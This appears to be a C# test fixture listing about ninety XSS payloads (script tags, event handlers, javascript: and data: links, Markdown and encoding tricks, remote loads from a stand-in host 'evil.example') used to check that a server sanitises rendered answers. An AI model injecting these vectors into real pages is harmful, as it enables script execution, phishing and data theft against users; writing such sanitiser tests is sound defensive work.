namespace Alignment.Labeling.Tests.Server;

/// <summary>Answers that try to run something, load something or look like something else. Each would call <c>pwn()</c>, open a dialog or ask
/// another host if the page let it.</summary>
internal static class XssCorpus
{
    /// <summary>The host that nobody may be asked for.</summary>
    public const string Host = "evil.example";

    private const string Run = "alert(document.domain);window.ran?.push('script')";

    /// <summary>The texts.</summary>
    public static IReadOnlyList<string> Texts { get; } =
    [
        // Scripts in HTML
        $"<script>{Run}</script>",
        $"<SCRIPT SRC=https://{Host}/x.js></SCRIPT>",
        $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<script\n>{Run}</script\n>",
        $"<script/x>{Run}</script>",
        $"<script type=module>import 'https://{Host}/m.js'</script>",
        $"<svg><script>{Run}</script></svg>",
        $"<svg><script href=https://{Host}/s.js /></svg>",
        $"<math><mtext><script>{Run}</script></mtext></math>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\"></noscript>",

        // Handlers
        $"<img src=x onerror=\"{Run}\">",
        $"<img src=x onerror={Run}//",
        $"<img/src=x/onerror={Run}>",
        $"<IMG \"\"\"><SCRIPT>{Run}</SCRIPT>\">",
        $"<svg onload={Run}>",
        $"<svg/onload={Run}>",
        $"<body onload={Run}>",
        $"<details open ontoggle={Run}>x</details>",
        $"<video autoplay onloadstart={Run}><source src=x></video>",
        $"<audio src=x onerror={Run}>",
        $"<input autofocus onfocus={Run}>",
        $"<select autofocus onfocus={Run}><option>x</select>",
        $"<textarea autofocus onfocus={Run}></textarea>",
        $"<marquee onstart={Run}>x</marquee>",
        $"<div style=\"animation:x 1s\" onanimationstart={Run}>x</div>",
        $"<p onmouseover={Run} style=position:fixed;inset:0>x</p>",
        $"<button popovertarget=p onclick={Run}>x</button><div id=p popover onbeforetoggle={Run}>x</div>",

        // Loads
        $"<iframe src=\"javascript:{Run}\"></iframe>",
        $"<iframe srcdoc=\"<script>{Run}</script>\"></iframe>",
        $"<object data=\"https://{Host}/o\"></object>",
        $"<embed src=\"https://{Host}/e\">",
        $"<link rel=stylesheet href=https://{Host}/c.css>",
        $"<style>@import 'https://{Host}/i.css'; body{{background:url(https://{Host}/b.png)}}</style>",
        $"<p style=\"background:url(https://{Host}/p.png)\">x</p>",
        $"<base href=https://{Host}/>",
        $"<meta http-equiv=refresh content=\"0;url=https://{Host}/r\">",
        $"<form action=https://{Host}/f><input name=a><button autofocus>x</button></form>",
        $"<img srcset=\"https://{Host}/1x.png 1x\">",
        $"<picture><source srcset=https://{Host}/s.png><img src=x></picture>",
        $"<video poster=https://{Host}/v.png></video>",
        $"<template shadowrootmode=open><img src=x onerror={Run}></template>",

        // Markdown that becomes HTML
        $"![x](https://{Host}/image.png)",
        $"![x](https://{Host}/image.png \"title\")",
        $"![x][ref]\n\n[ref]: https://{Host}/ref.png",
        $"[click](javascript:{Run})",
        $"[click](JaVaScRiPt:{Run})",
        $"[click](java\tscript:{Run})",
        $"[click](\u0001javascript:{Run})",
        $"[click](&#106;avascript:{Run})",
        $"[click](javascript&colon;{Run})",
        $"[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        $"[click](vbscript:msgbox)",
        $"[click](file:///etc/passwd)",
        $"[click](//{Host}/protocol-relative)",
        $"[click](/api/session)",
        $"[click](https://{Host}/\" onmouseover=\"{Run})",
        $"[click](<https://{Host}/\" onmouseover=\"{Run}>)",
        $"[click](https://{Host} \"\\\" onmouseover={Run} x=\\\"\")",
        $"[https://good.example](https://{Host}/phish)",
        $"[x](https://good.example@{Host}/)",
        $"<javascript:{Run}>",
        $"<https://{Host}/auto\"onmouseover={Run}>",
        $"[a]: javascript:{Run}\n\n[a]",
        $"```\"><script>{Run}</script>\n</code></pre><script>{Run}</script>\n```",
        $"```<img src=x onerror={Run}>\nx\n```",
        $"`</code><script>{Run}</script>`",
        $"| a | b |\n| --- | --- |\n| <img src=x onerror={Run}> | </table><script>{Run}</script> |",
        $"- [ ] <img src=x onerror={Run}>",
        $"> <script>{Run}</script>",
        $"# <svg/onload={Run}>",
        $"$</span><script>{Run}</script>$",
        $"$$\n</pre><script>{Run}</script>\n$$",
        $"**<img src=x onerror={Run}>** ~~<b onclick={Run}>~~",
        $"&lt;script&gt;{Run}&lt;/script&gt; &#x3c;script&#x3e;{Run}&#x3c;/script&#x3e;",

        // Odd encodings and broken structure
        $"\u202E<script>{Run}</script>\u2066",
        $"<img src=x onerror\u0000={Run}>",
        $"\uFF1Cscript\uFF1E{Run}\uFF1C/script\uFF1E",
        $"</div></div></main><script>{Run}</script>",
        $"-->]]><script>{Run}</script>",
        $"</template><script>{Run}</script>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %>",
        $"\u2028<script>{Run}</script>\u2029",
        $"<a id=main name=body href=https://{Host}>clobber</a><form id=session><input name=csrf></form>",
        $"\uD800<script>{Run}</script>",
    ];
}
